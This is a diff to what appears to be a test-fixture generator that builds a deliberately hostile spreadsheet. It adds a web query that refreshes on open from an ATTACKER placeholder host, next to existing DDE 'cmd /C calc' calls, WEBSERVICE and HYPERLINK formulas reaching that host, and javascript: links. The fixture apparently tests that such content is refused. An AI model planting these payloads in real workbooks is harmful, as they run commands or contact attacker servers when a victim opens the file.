@@ -444,7 +444,8 @@ def live_formulas_and_links() -> bytes:
     """A refused return (E12 is text) whose cells would run, fetch or link if handed back live:
     HYPERLINK, WEBSERVICE and DDE formulas with saved values, text starting with = + - @, cell
     hyperlinks to a web page and to javascript:, a defined name holding a DDE call, a data
-    validation and a conditional format holding WEBSERVICE, and an external workbook link."""
+    validation and a conditional format holding WEBSERVICE, an external workbook link and a web
+    query refreshed on open."""
     base = _with_external_link({
         NUM: number(NUM, "900").replace("<v>", f'<f>HYPERLINK("{ATTACKER}/x",900)</f><v>'),
         "E12": inline("E12", "một nghìn"),
@@ -476,8 +477,20 @@ def live_formulas_and_links() -> bytes:
     wb = sub(parts["xl/workbook.xml"].decode(), "</definedNames>",
              "<definedName name=\"thuc_hien\">cmd|' /C calc'!A0</definedName>"
              f'<definedName name="tai_ve">WEBSERVICE("{ATTACKER}/n")</definedName></definedNames>')
+    # a web query refreshed when the workbook opens
+    wb_rels = sub(parts["xl/_rels/workbook.xml.rels"].decode(), "</Relationships>",
+                  '<Relationship Id="rIdConn1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                  'relationships/connections" Target="connections.xml"/></Relationships>')
+    ct = sub(parts["[Content_Types].xml"].decode(), "</Types>",
+             '<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.'
+             'spreadsheetml.connections+xml"/></Types>')
+    connections = ('<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+                   f'<connection id="1" name="tai" type="4" refreshedVersion="6" refreshOnLoad="1">'
+                   f'<webPr sourceData="1" parsePre="1" consecutive="1" xl2000="1" url="{ATTACKER}/q"/>'
+                   '</connection></connections>')
     return rezip(base, {SHEET: xml.encode(), "xl/worksheets/_rels/sheet1.xml.rels": rels.encode(),
-                        "xl/workbook.xml": wb.encode()})
+                        "xl/workbook.xml": wb.encode(), "xl/_rels/workbook.xml.rels": wb_rels.encode(),
+                        "[Content_Types].xml": ct.encode(), "xl/connections.xml": connections.encode()})
 
 
 def markup_in_text() -> bytes:
